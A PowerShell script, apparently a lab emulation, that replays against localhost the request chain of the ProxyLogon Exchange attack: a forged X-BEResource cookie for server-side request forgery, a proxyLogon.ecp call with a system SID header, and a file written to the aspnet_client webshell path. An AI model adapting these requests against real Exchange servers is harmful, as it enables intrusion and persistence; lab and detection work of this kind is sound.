# PowerShell port of the lab chain: values named once, expanded into double-quoted strings
param([int]$Port = 8080)

$Chrome = '88.0.4324.190'
$Agent = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/$Chrome Safari/537.36"
$Domain = 'lab.invalid'
$Mailbox = "administrator@$Domain"
$Ticket = 1843073522
$NoteId = 91453
$NotePath = "/aspnet_client/system_web/readme_$($NoteId).txt"
$RequestId = '{0}-{1}' -f '20200302', 7720
$PadLength = 37
$Base = "http://127.0.0.1:$Port"

function Get-BrowserHeaders {
    [ordered]@{
        'x-requested-with' = 'XMLHttpRequest'
        'Accept'           = '*/*'
        'accept-language'  = 'en-US,en;q=0.9'
        'connection'       = 'close'
    }
}

$headers = Get-BrowserHeaders
$headers['cookie'] = "X-AnonResource=true; X-AnonResource-Backend=$Domain; X-BEResource=localhost@$Domain/ews/exchange.asmx?a%3D~$Ticket"
$pad = 'A' * $PadLength
$email = [uri]::EscapeDataString("$Mailbox/mapi/nspi")
$uri = "$Base/autodiscover/autodiscover.json?Pad=$pad&Protocol=Autodiscoverv1&Email=$email&RequestId=${RequestId}"
$probe = Invoke-WebRequest -Uri $uri -Method Get -Headers $headers -UserAgent $Agent -TimeoutSec 10 -UseBasicParsing -SkipHttpErrorCheck
if ($probe.StatusCode -ge 500) { exit 1 }

$identHeaders = [ordered]@{
    'msexchlogonmailbox' = 'S-1-5-20'
    'X-BEResource'       = "localhost@$Domain/ecp/proxyLogon.ecp"
}
$body = "{""mailbox"": ""$Mailbox"", ""requestKind"": ""identity"", ""seq"": 1}"
$ident = Invoke-WebRequest -Uri "$Base/ecp/proxyLogon.ecp" -Method Post -Headers $identHeaders -UserAgent $Agent -ContentType 'application/json' -Body $body -TimeoutSec 10 -UseBasicParsing -SkipHttpErrorCheck
$who = "$($ident.Content)".Trim()
if (-not $who) { $who = 'anonymous' }

$text = (1..3 | ForEach-Object { "note $_ of 3 for $who" }) -join "`n"
$noteHeaders = [ordered]@{ 'X-Note-Path' = $NotePath }
Invoke-WebRequest -Uri "$Base$NotePath" -Method Post -Headers $noteHeaders -UserAgent $Agent -ContentType 'text/plain' -Body $text -TimeoutSec 10 -UseBasicParsing | Out-Null
$check = Invoke-WebRequest -Uri "$Base$NotePath" -Headers (Get-BrowserHeaders) -UserAgent $Agent -TimeoutSec 10 -UseBasicParsing
Write-Output $check.Content.Length
